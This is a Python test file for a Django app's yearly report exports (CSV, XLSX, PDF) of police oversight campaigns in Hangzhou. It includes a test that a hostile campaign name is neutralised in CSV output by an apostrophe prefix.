def report_names(unit, year: int) -> list[str]:
    (section,) = yearly_report(unit=unit, year=year).sections
    return [line.name for line in section.lines]


def test_the_yearly_files_carry_the_campaigns_section(data):
    year = timezone.localdate().year
    city = data.camp.world.city

    def export(fmt: str, language: str = "en") -> bytes:
        out = io.BytesIO()
        with translation.override(language):
            render_export(unit=city, year=year, fmt=fmt, out=out)
        return out.getvalue()

    rows = list(csv.reader(io.StringIO(export("csv").decode("utf-8-sig"))))
    at = rows.index(["Oversight campaigns"])
    assert rows[at + 1] == ["Campaign", *CAMPAIGN_COLUMNS]
    assert rows[at + 2] == [
        "追逃专项",
        "Fugitive pursuit",
        "Running",
        "杭州市公安局 (330100)",
        "3",
        "0",
        "0",
        "0",
        "0",
        "0",
        "0",
        "7",
        "2",
        "2",
    ]
    assert rows[at + 3] == [
        "2026年袭警案件专项监督",
        "Special supervision",
        "Running",
        "杭州市公安局 (330100)",
        "5",
        "3",
        "6",
        "2",
        "2",
        "1",
        "3",
        "",
        "",
        "",
    ]
    wb = openpyxl.load_workbook(io.BytesIO(export("xlsx")))
    assert wb.sheetnames[-2:] == ["Oversight campaigns", "Charts"]
    sheet = [list(r) for r in wb["Oversight campaigns"].iter_rows(min_row=2, max_row=3, values_only=True)]
    assert sheet == [
        ["追逃专项", "Fugitive pursuit", "Running", "杭州市公安局 (330100)", 3, 0, 0, 0, 0, 0, 0, 7, 2, 2],
        [
            "2026年袭警案件专项监督",
            "Special supervision",
            "Running",
            "杭州市公安局 (330100)",
            5,
            3,
            6,
            2,
            2,
            1,
            3,
            None,
            None,
            None,
        ],
    ]
    text = pdf_text(export("pdf"))
    section = "".join(text[text.index("Oversight campaigns") :].split())  # narrow cells wrap their words
    assert section.startswith("OversightcampaignsCampaignKindStateOwnerunitCasesselected")
    assert "追逃专项FugitivepursuitRunning杭州市公安局(330100)3000000722" in section
    assert "2026年袭警案件专项监督SpecialsupervisionRunning杭州市公安局(330100)5362213Campaignsofthisarea" in section
    zh = list(csv.reader(io.StringIO(export("csv", "zh-hans").decode("utf-8-sig"))))
    with translation.override("zh-hans"):
        title = translation.gettext("Oversight campaigns")
    assert title != "Oversight campaigns"
    assert [title] in zh


def test_the_yearly_page_shows_the_campaigns_section(client, data):
    client.force_login(data.camp.world.supervisor)
    page = client.get(reverse("cases:reports"), {"unit": "330100", "year": timezone.localdate().year})
    assert page.status_code == 200
    html = page.content.decode()
    assert 'id="grid-campaigns"' in html
    assert "2026年袭警案件专项监督" in html


def test_a_hostile_name_is_inert_in_the_yearly_csv(data):
    Campaign.objects.filter(pk=data.special.pk).update(name=HOSTILE)
    out = io.BytesIO()
    with translation.override("en"):
        render_export(unit=data.camp.world.city, year=timezone.localdate().year, fmt="csv", out=out)
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    assert next(r for r in rows if r and HOSTILE in r[0])[:2] == ["'" + HOSTILE, "Special supervision"]
